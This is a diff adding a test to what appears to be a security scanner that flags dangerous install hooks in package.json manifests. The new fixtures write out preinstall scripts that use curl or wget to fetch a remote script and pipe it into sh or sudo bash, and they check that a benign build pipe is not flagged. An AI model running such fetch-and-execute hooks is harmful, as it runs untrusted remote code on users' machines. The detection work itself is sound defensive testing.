@@ -92,6 +92,19 @@ describe('install-hook', () => {
     assert.deepEqual(found('postinstall.js', remote, 'javascript'), ['install-hook error']);
   });
 
+  it('finds what a program in a script of a manifest pipes into a shell', () => {
+    const foundIn = (script: string) => {
+      const text = `${JSON.stringify({ name: 'x', scripts: { preinstall: script } }, undefined, 2)}\n`;
+      return find('file', text, {}, 'package.json').map((it) => `${it.rule} ${it.severity}`);
+    };
+    for (const script of [
+      `node -e "require('child_process').execSync('curl -s https://example.com/a.sh | sh')"`,
+      `python3 -c "import os; os.system('wget -qO- https://example.com/a.sh | sudo bash')"`,
+    ])
+      assert.deepEqual(foundIn(script), ['install-hook error'], script);
+    assert.deepEqual(foundIn(`node -e "require('child_process').execSync('make | tee log')"`), []);
+  });
+
   it('is silent on what builds need', () => {
     for (const code of [
       'exec(open("pkg/version.py").read())',
